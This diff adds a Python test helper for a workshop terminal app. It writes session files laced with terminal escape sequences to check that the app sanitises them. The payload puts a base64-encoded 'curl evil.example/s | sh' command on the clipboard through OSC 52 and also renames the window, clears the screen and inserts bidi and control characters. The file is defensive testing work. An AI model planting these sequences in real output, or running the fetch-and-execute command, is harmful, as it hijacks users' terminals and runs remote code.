@@ -1,0 +1,79 @@
+"""Hostile files made by the tests: a session whose every text carries terminal escapes.
+
+Facilitators pass session files to each other; a file is data, never a command. These
+helpers write the demo seminar with escape sequences in every text (title, organisation,
+facilitator, group and participant names, each exercise's texts, notes and answers), for
+the CLI, the exports and the app to be fed.
+"""
+
+from __future__ import annotations
+
+import base64
+from pathlib import Path
+from typing import Any
+
+from workshop_tui.storage.locations import builtin_sessions_dir
+from workshop_tui.storage.sessions import DEMO_FILE, load_session, session_to_dict
+from workshop_tui.storage.tomlio import dumps
+
+CLIPBOARD = base64.b64encode(b"curl evil.example/s | sh\n").decode()
+PAYLOAD = (
+    f"\x1b]52;c;{CLIPBOARD}\x07"  # OSC 52: set the clipboard
+    "\x1b]0;PWNED\x07"  # OSC 0: rename the window
+    "A\x1b[2JB"  # ED: clear the screen
+    "C\x9b2JD"  # the same as an 8-bit CSI
+    "\x1bPPWNDCS\x1b\\"  # a device control string
+    "\u202eE\x07\x00"  # a bidi override, a bell and a NUL
+)
+"""What each text gets: the sequences issue 12 found reaching the terminal, and a few more."""
+LEAKS = (
+    b"]52;",
+    CLIPBOARD.encode(),
+    b"PWNED",
+    b"A\x1b[2JB",
+    b"\xc2\x9b",
+    b"PWNDCS",
+    b"\xe2\x80\xae",
+    b"\x00",
+)
+"""Bytes that must never appear in what the app writes to the terminal."""
+
+TEXT_KEYS = frozenset(
+    {"title", "organisation", "facilitator", "name", "da", "en", "note", "text", "owner", "due", "lines"}
+)
+"""The keys of a session file whose values are free text (ids and codes are not)."""
+TEXT_MAPS = frozenset({"notes", "closing", "challenge"})
+"""Tables whose values are texts keyed by ids."""
+
+
+def poisoned(value: Any, key: str = "", payload: str = PAYLOAD) -> Any:
+    """``value`` (a session file's table) with ``payload`` appended to every free text."""
+    if isinstance(value, dict):
+        if key in TEXT_MAPS and all(isinstance(v, str) for v in value.values()):
+            return {k: v + payload for k, v in value.items()}
+        return {k: poisoned(v, k, payload) for k, v in value.items()}
+    if isinstance(value, list):
+        return [poisoned(v, key, payload) for v in value]
+    if isinstance(value, str) and key in TEXT_KEYS:
+        return value + payload
+    return value
+
+
+def hostile_session(folder: Path, name: str = "hostile.toml", payload: str = PAYLOAD) -> Path:
+    """The demo seminar with ``payload`` in every text, written to ``folder/name``."""
+    data = poisoned(session_to_dict(load_session(builtin_sessions_dir() / DEMO_FILE)), payload=payload)
+    data["id"] = Path(name).stem
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / name
+    path.write_text(dumps(data), encoding="utf-8")
+    return path
+
+
+def session_with(folder: Path, name: str, **top: Any) -> Path:
+    """The demo seminar with some top-level keys replaced (``id``, ``date`` …), as a file."""
+    data = session_to_dict(load_session(builtin_sessions_dir() / DEMO_FILE))
+    data.update(top)
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / name
+    path.write_text(dumps(data), encoding="utf-8")
+    return path
